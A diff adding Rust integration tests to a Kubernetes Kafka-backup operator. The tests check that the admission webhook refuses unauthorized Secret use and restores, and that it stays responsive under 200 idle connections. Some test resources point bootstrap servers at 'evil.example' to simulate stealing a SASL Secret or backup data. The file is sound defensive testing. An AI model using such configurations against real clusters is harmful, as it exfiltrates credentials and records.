@@ -170,7 +170,16 @@ fn what_a_resource_does_for_its_author_the_author_must_be_allowed() {
         said.contains("spec.backupRef.namespace") && said.contains("may not get kafkabackups.kafka.oso.sh"),
         "{said}"
     );
-    cluster.ok(&["create", "role", "-n", "prod", "reader", "--verb=get", "--resource=kafkabackups.kafka.oso.sh"]);
+    assert!(said.contains("spec.backupRef: ") && said.contains("may not restore kafkabackups.kafka.oso.sh"), "{said}");
+    cluster.ok(&[
+        "create",
+        "role",
+        "-n",
+        "prod",
+        "reader",
+        "--verb=get,restore",
+        "--resource=kafkabackups.kafka.oso.sh",
+    ]);
     cluster.ok(&["create", "rolebinding", "-n", "prod", "ann", "--role=reader", "--serviceaccount=dev:ann"]);
     wait_for(PATIENCE, || create(&restore("foreign")));
     // The role for editing lets make pods: who has only the right to these kinds must not make them through us.
@@ -198,6 +207,96 @@ fn what_a_resource_does_for_its_author_the_author_must_be_allowed() {
         if said.contains("spec.image") { Ok(said) } else { Err(said) }
     });
     assert!(said.contains("may not create pods"), "{said}");
+}
+
+#[test]
+fn connections_that_say_nothing_keep_nobody_out() {
+    let (cluster, port, _) = cluster();
+    let silent: Vec<_> = (0..200)
+        .map(|number| {
+            let mut stream = std::net::TcpStream::connect(("127.0.0.1", *port)).unwrap();
+            if number % 2 == 0 {
+                // The beginning of a handshake.
+                std::io::Write::write_all(&mut stream, &[22, 3, 1]).unwrap();
+            }
+            stream
+        })
+        .collect();
+    let began = Instant::now();
+    cluster.apply(&backup("beside", json!({}))).unwrap();
+    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
+    drop(silent);
+}
+
+/// Whoever may write these kinds only must not take a Secret to a host of their own, nor read a backup through a restore.
+#[test]
+fn secrets_and_records_take_rights_of_their_own() {
+    let (cluster, ..) = cluster();
+    let namespace = "tenants";
+    cluster.ok(&["create", "namespace", namespace]);
+    let everything = "--resource=kafkabackups.kafka.oso.sh,kafkarestores.kafka.oso.sh";
+    cluster.ok(&["create", "role", "-n", namespace, "writer", "--verb=create,get,update,patch", everything]);
+    let grant = |role: &str, user: &str| {
+        let account = format!("--serviceaccount={namespace}:{user}");
+        let binding = format!("{user}-{role}");
+        cluster.ok(&["create", "rolebinding", "-n", namespace, &binding, &format!("--role={role}"), &account]);
+    };
+    let account = |user: &str| {
+        cluster.ok(&["create", "serviceaccount", "-n", namespace, user]);
+        grant("writer", user);
+        cluster.account(namespace, user)
+    };
+    let (owner, thief) = (account("owner"), account("thief"));
+    let key = ["create", "role", "-n", namespace, "key", "--verb=get", "--resource=secrets", "--resource-name=kafka"];
+    cluster.ok(&key);
+    grant("key", "owner");
+    let apply = |user: &Path, document: &Value| {
+        let output = cluster.kubectl_with(user, &["apply", "-f", "-"], &document.to_string());
+        if output.status.success() { Ok(()) } else { Err(String::from_utf8_lossy(&output.stderr).into_owned()) }
+    };
+    let backup = |host: &str| {
+        json!({
+            "apiVersion": "kafka.oso.sh/v1alpha1", "kind": "KafkaBackup",
+            "metadata": {"name": "orders", "namespace": namespace},
+            "spec": {
+                "kafkaCluster": {"bootstrapServers": [host], "securityProtocol": "SASL_SSL",
+                                 "saslSecret": {"name": "kafka", "mechanism": "PLAIN"}},
+                "topics": ["orders"], "stopAtCurrentOffsets": true, "suspend": true, "storage": {"pvc": {"claimName": "b"}},
+            },
+        })
+    };
+    let refused = |user: &Path, document: &Value, words: &str| {
+        wait_for(PATIENCE, || match apply(user, document) {
+            Ok(()) => Err("it was kept".to_owned()),
+            Err(said) if said.contains(words) => Ok(()),
+            Err(said) => Err(said),
+        });
+    };
+    let secret = "spec.kafkaCluster.saslSecret: system:serviceaccount:tenants:thief may not get secrets \"kafka\"";
+    refused(&thief, &backup("evil.example:9093"), secret);
+    wait_for(PATIENCE, || apply(&owner, &backup("kafka:9093")));
+    // Nor by a change of the host that an honest resource names.
+    refused(&thief, &backup("evil.example:9093"), secret);
+    let restore = json!({
+        "apiVersion": "kafka.oso.sh/v1alpha1", "kind": "KafkaRestore", "metadata": {"name": "copy", "namespace": namespace},
+        "spec": {"backupRef": {"name": "orders"}, "kafkaCluster": {"bootstrapServers": ["evil.example:9092"]}},
+    });
+    refused(&thief, &restore, "may not restore kafkabackups.kafka.oso.sh");
+    // Another backup's point under this backup's name.
+    let mut other = restore.clone();
+    other["spec"]["backupRef"]["backupId"] = "payroll-20260101-000000".into();
+    refused(&owner, &other, "spec.backupRef.backupId");
+    cluster.ok(&[
+        "create",
+        "role",
+        "-n",
+        namespace,
+        "restorer",
+        "--verb=restore",
+        "--resource=kafkabackups.kafka.oso.sh",
+    ]);
+    grant("restorer", "owner");
+    wait_for(PATIENCE, || apply(&owner, &restore));
 }
 
 #[test]
